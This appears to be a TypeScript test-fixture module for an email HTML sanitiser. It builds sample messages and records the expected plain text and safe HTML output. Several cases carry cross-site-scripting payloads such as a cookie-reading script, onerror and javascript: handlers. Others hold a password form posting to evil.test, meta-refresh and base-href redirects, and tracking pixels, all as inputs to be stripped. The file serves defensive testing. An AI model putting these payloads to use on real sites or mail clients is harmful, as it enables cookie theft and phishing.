import type { Case, HeaderLine } from './corpus-build.ts';
import { head, mailbox, message, multipart, part } from './corpus-build.ts';
import { ICS, PNG } from './corpus-files.ts';
import { tongue } from './corpus-words.ts';

const EN = tongue('en');
const FROM = mailbox(EN.person, EN.address);

function page(name: string, source: string, truth: Case['truth'], more: HeaderLine[] = []): Case {
  const raw = message(
    head(name, FROM, 'A page', [
      ['Content-Type', 'text/html; charset=utf-8'],
      ['Content-Transfer-Encoding', 'base64'],
      ...more,
    ]),
    Buffer.from(source).toString('base64').replace(/.{76}/g, '$&\r\n'),
  );
  return { name, raw, truth: { kind: 'message', ...truth } };
}

/** Pages that must be shown without harm and read as text. */
export function pageCases(): Case[] {
  const rows = Array.from(
    { length: 1000 },
    (_, index) => `<tr><td style="font-family:Arial">Row ${String(index)}</td><td>&nbsp;</td></tr>`,
  ).join('');
  return [
    page('html-plain', '<p>Hello,</p><p>when does the bus come?</p>', {
      text: 'Hello,\n\nwhen does the bus come?',
      html_safe: '<p>Hello,</p><p>when does the bus come?</p>',
    }),
    page(
      'html-script',
      '<p>Hi<script>alert(document.cookie)</script></p><img src=x onerror=alert(1)><a href="javascript:alert(1)">press</a>',
      { text: 'Hi\npress'.replace('\n', '\n\n'), html_safe: '<p>Hi</p><span></span><a>press</a>' },
    ),
    page(
      'html-tracking-picture',
      '<p>Hi</p><img src="https://tracker.test/p.gif?id=1" width=1 height=1><div style="background:url(https://tracker.test/b.png)">there</div>',
      { html_safe: '<p>Hi</p><span></span><div>there</div>' },
    ),
    page(
      'html-style-and-form',
      '<style>body{background:url(//evil.test)}</style><form action="https://evil.test"><input name=password value=secret>Your code?<button>Send</button></form>',
      { html_safe: 'Your code?Send' },
    ),
    page(
      'html-links',
      '<p>See <a href="https://example.org/a?x=1&amp;y=2" onclick="x()">the page</a> or <a href="//evil.test">this</a> or <a href="https://example.org/b">https://example.org/b</a></p>',
      {
        text: 'See the page <https://example.org/a?x=1&y=2> or this or https://example.org/b',
        html_safe:
          '<p>See <a href="https://example.org/a?x=1&amp;y=2" rel="noopener noreferrer nofollow" target="_blank">the page</a> or <a>this</a> or <a href="https://example.org/b" rel="noopener noreferrer nofollow" target="_blank">https://example.org/b</a></p>',
      },
    ),
    page('html-right-to-left', '<div dir="rtl" lang="ar"><p>متى تصل الحافلة؟</p></div>', {
      text: 'متى تصل الحافلة؟',
      html_safe: '<div dir="rtl" lang="ar"><p>متى تصل الحافلة؟</p></div>',
    }),
    page('html-lists-and-breaks', 'Things:<ul><li>milk</li><li>bread</li></ul>one<br>two<br><br>three', {
      text: 'Things:\n\n- milk\n- bread\n\none\ntwo\n\nthree',
    }),
    page('html-entities', '<p>caf&eacute; &amp; th&#233; &#x1F600; &lt;b&gt; 5&nbsp;&euro; &unknown;</p>', {
      text: 'café & thé 😀 <b> 5 € &unknown;',
    }),
    page('html-hidden-preheader', '<div style="display:none;max-height:0">Secret words</div><p>Visible words</p>', {
      text: 'Visible words',
      html_safe: '<p>Visible words</p>',
    }),
    page('html-enormous-table', `<table>${rows}</table>`, { kind: 'message' }),
    page('html-unclosed', '<p>One<p>Two<b>bold<div>three', { text: 'One\n\nTwobold\nthree' }),
    page(
      'html-comment-and-conditional',
      '<!--[if mso]><p>Outlook only</p><![endif]--><p>For all</p><!-- never closed',
      { text: 'For all' },
    ),
    page('html-deep', `${'<div>'.repeat(3000)}deep words${'</div>'.repeat(3000)}`, {
      text: 'deep words',
      html_safe: '',
      warnings: ['html_not_shown'],
    }),
    page('html-picture-description', '<p>Look: <img src="cid:p1" alt="our garden"></p>', {
      text: 'Look: [our garden]',
      html_safe: '<p>Look: <span>[our garden]</span></p>',
    }),
    page(
      'html-gmail-quotation',
      '<div>We will come.</div><div class="gmail_quote"><div class="gmail_attr">On Wed, Nov 4, 2026 at 9:12 AM Office &lt;office@lincoln.district.test&gt; wrote:<br></div><blockquote class="gmail_quote"><p>Can you come?</p></blockquote></div>',
      { reply_text: 'We will come.' },
    ),
    page(
      'html-apple-quotation',
      '<div>We will come.<div><br><blockquote type="cite"><div>On Nov 4, 2026, at 9:12 AM, Office &lt;office@lincoln.district.test&gt; wrote:</div><br><div>Can you come?</div></blockquote></div></div>',
      { reply_text: 'We will come.' },
    ),
    page('html-only-a-picture', '<img src="https://example.org/flyer.png" alt="">', { text: '' }),
    page(
      'html-meta-refresh',
      '<meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test/"><link rel=stylesheet href="//evil.test/x.css"><p>Hi</p>',
      { html_safe: '<p>Hi</p>' },
    ),
    related(),
    invitation(),
  ];
}

function related(): Case {
  const name = 'html-inline-picture';
  const inner = multipart('rel', [
    part({ type: 'text/html; charset=utf-8', body: '<p>The slip: <img src="cid:slip@example.org" alt="slip"></p>' }),
    part({
      type: 'image/png; name="slip.png"',
      body: PNG,
      encoding: 'base64',
      more: [
        ['Content-ID', '<slip@example.org>'],
        ['Content-Disposition', 'inline; filename="slip.png"'],
      ],
    }),
  ]);
  const raw = message(head(name, FROM, 'The slip', [['Content-Type', 'multipart/related; boundary="rel"']]), inner);
  return {
    name,
    raw,
    truth: {
      kind: 'message',
      text: 'The slip: [slip]',
      attachments: [{ name: 'slip.png', type: 'image/png', inline: true, held: false, size: PNG.length }],
    },
  };
}

function invitation(): Case {
  const name = 'calendar-answer';
  const body = multipart('cal', [
    part({ type: 'text/plain; charset=utf-8', body: 'Grace Miller has accepted.' }),
    part({ type: 'text/calendar; method=REPLY; charset=utf-8', body: ICS.replace('REQUEST', 'REPLY') }),
  ]);
  const raw = message(
    head(name, FROM, 'Accepted: Talk at school', [['Content-Type', 'multipart/alternative; boundary="cal"']]),
    body,
  );
  return {
    name,
    raw,
    truth: {
      kind: 'message',
      text: 'Grace Miller has accepted.',
      attachments: [{ name: 'invitation-1.ics', type: 'text/calendar', held: false }],
    },
  };
}
